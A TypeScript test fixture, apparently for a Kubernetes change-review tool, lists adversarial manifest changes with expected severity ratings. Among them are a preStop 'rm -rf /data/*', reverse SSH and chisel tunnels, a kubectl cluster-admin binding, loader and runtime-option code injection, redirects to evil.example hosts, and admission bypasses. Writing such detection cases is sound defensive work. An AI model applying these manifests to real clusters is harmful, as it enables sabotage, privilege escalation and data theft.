import {
  batch,
  binding,
  config,
  ingress,
  narrowRole,
  object,
  pod,
  policy,
  quietContainer,
  role,
  service,
  workload,
  type Manifest,
  type Sides,
} from "../support/manifests";
import type { Block } from "../support/plan";
import type { Want } from "./dangers";

// Written by somebody who knows the rules and wants a plan to pass: each changes something that is not where one looks
// for it, or takes away what keeps others back.

const runs = (spec: Block, own: Block = {}, security: Block = {}): Manifest => workload(pod(spec, own, security));
const become = (spec: Block, own: Block = {}, security: Block = {}): Sides => [runs({}), runs(spec, own, security)];
const env = (name: string, value: string): Sides => become({}, { env: [{ name, value }] });
const gone = (manifest: Manifest): Sides => [manifest, null];
const open = (key: string, value: string): Sides => [ingress(), ingress({ [key]: value })];
const loses = (key: string, value: string): Sides => [ingress({ [key]: value }), ingress()];
const custom = (apiVersion: string, kind: string, spec: Block, meta?: Block): Manifest =>
  object(apiVersion, kind, { spec }, meta);
const changes = (apiVersion: string, kind: string, before: Block, after: Block, meta?: Block): Sides => [
  custom(apiVersion, kind, before, meta),
  custom(apiVersion, kind, after, meta),
];
const admission = (kind: string, before: Block, after: Block): Sides =>
  changes("admissionregistration.k8s.io/v1", kind, before, after, {});
const rules = [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE", "UPDATE"], resources: ["pods"] }];
const hook = (more: Block): Manifest =>
  object(
    "admissionregistration.k8s.io/v1",
    "ValidatingWebhookConfiguration",
    {
      webhooks: [
        {
          ...{ name: "a.b.c", admissionReviewVersions: ["v1"], sideEffects: "None", failurePolicy: "Fail", rules },
          clientConfig: { service: { name: "s", namespace: "shop" } },
          ...more,
        },
      ],
    },
    {},
  );
const limits = (hard: Block): Manifest => object("v1", "ResourceQuota", { spec: { hard } });
const hpa = (spec: Block): Manifest =>
  object("autoscaling/v2", "HorizontalPodAutoscaler", {
    spec: { scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "w" }, ...spec },
  });
const backup = (more: Block): Manifest => batch(pod(), "CronJob", more);
const select = { podSelector: { matchLabels: { app: "w" } } };
const from = (peer: Block): Manifest => policy({ ...select, ingress: [{ from: [peer] }] });
const frontPods = { podSelector: { matchLabels: { app: "front" } } };

const budget = (maxUnavailable: string): Manifest =>
  object("policy/v1", "PodDisruptionBudget", { spec: { maxUnavailable, selector: { matchLabels: { app: "w" } } } });
const outTo = (...except: string[]): Manifest =>
  policy({ ...select, policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0", except } }] }] });

/** What is done, the least that has to be told, and the object. */
export const ATTACKS: Readonly<Record<string, readonly [Want, Manifest | Sides]>> = {
  // What is destroyed, or comes to a stop
  "a backup of Velero goes": ["medium", gone(custom("velero.io/v1", "Schedule", { schedule: "0 1 * * *" }))],
  "snapshots are deleted with their class": [
    "medium",
    [
      object("snapshot.storage.k8s.io/v1", "VolumeSnapshotClass", { driver: "d", deletionPolicy: "Retain" }, {}),
      object("snapshot.storage.k8s.io/v1", "VolumeSnapshotClass", { driver: "d", deletionPolicy: "Delete" }, {}),
    ],
  ],
  "a version of custom resources is served no more": [
    "not judged",
    changes(
      "apiextensions.k8s.io/v1",
      "CustomResourceDefinition",
      { group: "a.example", versions: [{ name: "v1", served: true, storage: true }] },
      { group: "a.example", versions: [{ name: "v1", served: false, storage: true }] },
      {},
    ),
  ],
  "a quota that lets no pod start": ["medium", [limits({ pods: "20" }), limits({ pods: "0" })]],
  "a quota of nothing, new": ["low", limits({ pods: "0" })],
  "an autoscaler that ends at one": [
    "low",
    [hpa({ minReplicas: 3, maxReplicas: 10 }), hpa({ minReplicas: 1, maxReplicas: 1 })],
  ],
  "a backup is suspended": ["low", [backup({ suspend: false }), backup({ suspend: true })]],
  "a rollout is paused": ["low", [workload(pod()), workload(pod(), "Deployment", { paused: true })]],
  "a database of an operator scaled to nothing": [
    "not judged",
    changes("acid.zalan.do/v1", "postgresql", { numberOfInstances: 3 }, { numberOfInstances: 0 }),
  ],
  "an autoscaler of KEDA that ends at nothing": [
    "not judged",
    changes(
      "keda.sh/v1alpha1",
      "ScaledObject",
      { scaleTargetRef: { name: "w" }, minReplicaCount: 2, maxReplicaCount: 10 },
      { scaleTargetRef: { name: "w" }, minReplicaCount: 0, maxReplicaCount: 0 },
    ),
  ],
  "a node is drained by a manifest": [
    "not judged",
    [
      object("v1", "Node", { spec: {} }, {}),
      object("v1", "Node", { spec: { unschedulable: true, taints: [{ key: "a", effect: "NoExecute" }] } }, {}),
    ],
  ],
  // Rights
  "takes up every role without some label": [
    "high",
    object(
      "rbac.authorization.k8s.io/v1",
      "ClusterRole",
      { aggregationRule: { clusterRoleSelectors: [{ matchExpressions: [{ key: "x", operator: "DoesNotExist" }] }] } },
      {},
    ),
  ],
  "all service accounts read": ["medium", binding("view", { kind: "Group", name: "system:serviceaccounts" })],
  "an administrator of kube-system": [
    "high",
    binding("admin", { kind: "ServiceAccount", name: "app", namespace: "shop" }, "kube-system"),
  ],
  "the kubelet of one node": ["medium", role("", "nodes/proxy", "get", { resourceNames: ["node-1"] })],
  "scales everything to nothing": ["low", role("apps", ["deployments/scale", "statefulsets/scale"], ["update"])],
  "exceptions from policies of Kyverno": ["medium", role("kyverno.io", "policyexceptions", ["create"])],
  "policies of Kyverno": ["medium", role("kyverno.io", ["clusterpolicies", "policies"], ["patch", "delete"])],
  "policies of Gatekeeper": ["medium", role("constraints.gatekeeper.sh", "k8srequiredlabels", ["update", "delete"])],
  "a token to join nodes": [
    "medium",
    object(
      "v1",
      "Secret",
      {
        type: "bootstrap.kubernetes.io/token",
        data: { "token-id": "YWJjZGVm", "usage-bootstrap-signing": "dHJ1ZQ==" },
      },
      { namespace: "kube-system", name: "bootstrap-token-abcdef" },
    ),
  ],
  "everybody is an administrator of Argo CD": [
    "medium",
    [
      config("argocd-rbac-cm", { "policy.default": "role:readonly" }, "argocd"),
      config("argocd-rbac-cm", { "policy.default": "role:admin" }, "argocd"),
    ],
  ],
  "directives for the proxy of all": [
    "medium",
    [
      config("ingress-nginx-controller", { "allow-snippet-annotations": "false" }, "ingress-nginx"),
      config("ingress-nginx-controller", { "allow-snippet-annotations": "true" }, "ingress-nginx"),
    ],
  ],
  "whom new nodes believe": [
    "medium",
    [
      config("cluster-info", { kubeconfig: "a" }, "kube-public"),
      config("cluster-info", { kubeconfig: "b" }, "kube-public"),
    ],
  ],
  "how nodes send traffic": [
    "medium",
    [
      config("kube-proxy", { "config.conf": "a" }, "kube-system"),
      config("kube-proxy", { "config.conf": "b" }, "kube-system"),
    ],
  ],
  "an exception from policies": [
    "not judged",
    custom("kyverno.io/v2", "PolicyException", { exceptions: [{ policyName: "p", ruleNames: ["*"] }] }),
  ],
  "a project of Argo CD for all clusters": [
    "not judged",
    custom(
      "argoproj.io/v1alpha1",
      "AppProject",
      { destinations: [{ server: "*", namespace: "*" }] },
      { namespace: "argocd" },
    ),
  ],
  // Who can reach what
  "open by Tailscale": ["medium", [service(), service({}, { "tailscale.com/expose": "true" })]],
  "open to all by Tailscale": [
    "medium",
    [
      ingress({}, { ingressClassName: "tailscale" }),
      ingress({ "tailscale.com/funnel": "true" }, { ingressClassName: "tailscale" }),
    ],
  ],
  "an Ingress for what nobody else serves": [
    "medium",
    [
      null,
      ingress(
        {},
        { rules: undefined, tls: undefined, defaultBackend: { service: { name: "w", port: { number: 80 } } } },
      ),
    ],
  ],
  "names of somebody else": ["medium", open("nginx.ingress.kubernetes.io/server-alias", "bank.example")],
  "clients are sent away": ["medium", open("nginx.ingress.kubernetes.io/permanent-redirect", "https://evil.example")],
  "all clients of another Ingress": [
    "medium",
    [
      ingress({ "nginx.ingress.kubernetes.io/canary": "true", "nginx.ingress.kubernetes.io/canary-weight": "1" }),
      ingress({ "nginx.ingress.kubernetes.io/canary": "true", "nginx.ingress.kubernetes.io/canary-weight": "100" }),
    ],
  ],
  "authentication of Traefik goes": [
    "medium",
    loses("traefik.ingress.kubernetes.io/router.middlewares", "shop-auth@kubernetescrd"),
  ],
  "authentication of ALB goes": ["medium", loses("alb.ingress.kubernetes.io/auth-type", "cognito")],
  "the list of clients of ALB": [
    "high",
    [
      ingress({ "alb.ingress.kubernetes.io/inbound-cidrs": "10.0.0.0/8" }),
      ingress({ "alb.ingress.kubernetes.io/inbound-cidrs": "10.0.0.0/8, 0.0.0.0/0" }),
    ],
  ],
  "a route of Traefik": [
    "medium",
    custom("traefik.io/v1alpha1", "IngressRoute", {
      routes: [{ match: "Host(`a.example.com`)", services: [{ name: "w", port: 80 }] }],
    }),
  ],
  "a route of Traefik for every name": [
    "not judged",
    custom("traefik.io/v1alpha1", "IngressRouteTCP", {
      routes: [{ match: "HostSNI(`*`)", services: [{ name: "w", port: 5432 }] }],
    }),
  ],
  "a proxy of Contour": [
    "medium",
    custom("projectcontour.io/v1", "HTTPProxy", {
      virtualhost: { fqdn: "a.example.com" },
      routes: [{ services: [{ name: "w", port: 80 }] }],
    }),
  ],
  "a policy for another namespace": ["medium", [from(frontPods), from({ namespaceSelector: {} })]],
  "a policy that counts one way only": [
    "medium",
    [policy({ ...select, policyTypes: ["Ingress", "Egress"] }), policy({ ...select, policyTypes: ["Ingress"] })],
  ],
  "a policy for pods that are none": [
    "medium",
    [policy(select), policy({ podSelector: { matchLabels: { app: "nobody" } } })],
  ],
  "a policy of Istio that allows all": [
    "not judged",
    changes(
      "security.istio.io/v1",
      "AuthorizationPolicy",
      { action: "ALLOW", rules: [{ from: [{ source: { principals: ["a"] } }] }] },
      { action: "ALLOW", rules: [{}] },
    ),
  ],
  "tokens that Istio checks no more": ["medium", gone(custom("security.istio.io/v1", "RequestAuthentication", {}))],
  "a sign-in of Google that is off": [
    "not judged",
    changes("cloud.google.com/v1", "BackendConfig", { iap: { enabled: true } }, { iap: { enabled: false } }),
  ],
  "a tunnel by SSH": ["medium", runs({}, { command: ["ssh", "-N", "-R", "80:localhost:8080", "serveo.net"] })],
  "a tunnel by chisel": [
    "medium",
    runs({}, { command: ["chisel", "client", "https://a.example", "R:8000:localhost:80"] }),
  ],
  // Pods
  "a token by a volume": [
    "low",
    become({ volumes: [{ name: "t", projected: { sources: [{ serviceAccountToken: { path: "t" } }] } }] }),
  ],
  "unconfined, by an old annotation": [
    "medium",
    [
      runs({}),
      {
        ...runs({}),
        spec: {
          ...(runs({})["spec"] as Block),
          template: {
            metadata: {
              labels: { app: "w" },
              annotations: { "container.apparmor.security.beta.kubernetes.io/app": "unconfined" },
            },
            spec: pod(),
          },
        },
      },
    ],
  ],
  "names that end elsewhere": ["low", become({ dnsConfig: { searches: ["evil.example"] } })],
  "a sidecar that starts before": [
    "medium",
    become({ initContainers: [{ ...quietContainer, name: "s", image: "evil.example/s:1", restartPolicy: "Always" }] }),
  ],
  "data go when pods end": [
    "low",
    become({}, { lifecycle: { preStop: { exec: { command: ["sh", "-c", "rm -rf /data/*"] } } } }),
  ],
  "code by Node's options": ["medium", env("NODE_OPTIONS", "--require /tmp/x.js")],
  "code by the shell": ["medium", env("BASH_ENV", "/tmp/x")],
  "code by Java's options": ["low", env("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/x.jar")],
  "code by Ruby's options": ["medium", env("RUBYOPT", "-r/tmp/x")],
  "code by Perl's options": ["medium", env("PERL5OPT", "-Mx")],
  "code by the loader": ["medium", env("LD_AUDIT", "/tmp/x.so")],
  "packages of somebody else": ["low", env("PIP_INDEX_URL", "http://evil.example/simple")],
  "a registry under another name": ["medium", become({}, { image: "registry.example.evil.example/app:1.0" })],
  "code by a repository": [
    "medium",
    become({ volumes: [{ name: "g", gitRepo: { repository: "https://a.example/x.git" } }] }),
  ],
  "files by another image": ["low", become({ volumes: [{ name: "i", image: { reference: "evil.example/files:1" } }] })],
  "a share of somebody else": ["low", become({ volumes: [{ name: "n", nfs: { server: "203.0.113.9", path: "/" } }] })],
  "before all pods of the cluster": [
    "low",
    object("scheduling.k8s.io/v1", "PriorityClass", { value: 1000000000, globalDefault: true }, {}),
  ],
  // What keeps others back
  "a webhook that leaves one namespace out": [
    "medium",
    [
      hook({}),
      hook({
        namespaceSelector: {
          matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["shop"] }],
        },
      }),
    ],
  ],
  "a webhook that leaves changes out": [
    "medium",
    [
      hook({}),
      hook({ rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }] }),
    ],
  ],
  "a webhook for other things": [
    "medium",
    [hook({}), hook({ rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["*"], resources: ["services"] }] })],
  ],
  "a webhook under a condition": [
    "medium",
    [hook({}), hook({ matchConditions: [{ name: "never", expression: "false" }] })],
  ],
  "a policy that only notes": [
    "medium",
    admission(
      "ValidatingAdmissionPolicyBinding",
      { policyName: "p", validationActions: ["Deny"] },
      { policyName: "p", validationActions: ["Audit"] },
    ),
  ],
  "a policy that lets all pass": [
    "medium",
    admission(
      "ValidatingAdmissionPolicy",
      { failurePolicy: "Fail", validations: [{ expression: "!object.spec.hostNetwork" }] },
      { failurePolicy: "Fail", validations: [{ expression: "true" }] },
    ),
  ],
  "a policy that fails open": [
    "medium",
    admission(
      "ValidatingAdmissionPolicy",
      { failurePolicy: "Fail", validations: [{ expression: "!object.spec.hostNetwork" }] },
      { failurePolicy: "Ignore", validations: [{ expression: "!object.spec.hostNetwork" }] },
    ),
  ],
  "a policy that changes what others make": [
    "not judged",
    custom(
      "admissionregistration.k8s.io/v1beta1",
      "MutatingAdmissionPolicy",
      { mutations: [{ patchType: "JSONPatch" }] },
      {},
    ),
  ],
  "a namespace that Gatekeeper passes over": [
    "medium",
    [
      object("v1", "Namespace", {}, { labels: {} }),
      object("v1", "Namespace", {}, { labels: { "admission.gatekeeper.sh/ignore": "true" } }),
    ],
  ],
  "images that nobody checks": [
    "medium",
    [
      object("v1", "Namespace", {}, { labels: { "policy.sigstore.dev/include": "true" } }),
      object("v1", "Namespace", {}, { labels: {} }),
    ],
  ],
  "tokens of kube-system": [
    "medium",
    { ...narrowRole("", "serviceaccounts/token", "create"), metadata: { name: "x", namespace: "kube-system" } },
  ],
  // What stands where one does not look
  "metadata of the cloud, left out no more": ["medium", [outTo("169.254.169.254/32"), outTo()]],
  "a loader by a reference": [
    "medium",
    become({}, { env: [{ name: "LD_PRELOAD", valueFrom: { configMapKeyRef: { name: "c", key: "k" } } }] }),
  ],
  "a loader of a name that looks random": ["medium", env("LD_PRELOAD", "/opt/xK3j9Q2lmz8Rt7Wq.so")],
  "all pods, by the name of the constraints": [
    "high",
    role("security.openshift.io", "securitycontextconstraints", "use", { resourceNames: ["privileged"] }),
  ],
  "a webhook for one version of a kind": [
    "medium",
    [hook({ matchPolicy: "Equivalent" }), hook({ matchPolicy: "Exact" })],
  ],
  "a webhook of another authority": [
    "low",
    ["QQ==", "Qg=="].map((caBundle) =>
      hook({ clientConfig: { service: { name: "s", namespace: "shop" }, caBundle } }),
    ) as unknown as Sides,
  ],
  "another address of a load balancer": [
    "medium",
    [
      service({ type: "LoadBalancer", loadBalancerIP: "203.0.113.7" }),
      service({ type: "LoadBalancer", loadBalancerIP: "203.0.113.9" }),
    ],
  ],
  "rights by a command": [
    "medium",
    batch(pod({}, { command: ["kubectl", "create", "clusterrolebinding", "x", "--clusterrole=cluster-admin"] })),
  ],
  "payments go elsewhere": [
    "low",
    [
      runs({}, { env: [{ name: "PAY", value: "https://api.pay.com/v1" }] }),
      runs({}, { env: [{ name: "PAY", value: "https://api.pay.com.evil.net/v1" }] }),
    ],
  ],
  "a budget that keeps nothing": ["low", [budget("1"), budget("100%")]],
  "a volume of somebody": [
    "low",
    object("v1", "PersistentVolumeClaim", { spec: { accessModes: ["ReadWriteOnce"], volumeName: "pv-of-the-bank" } }),
  ],
};
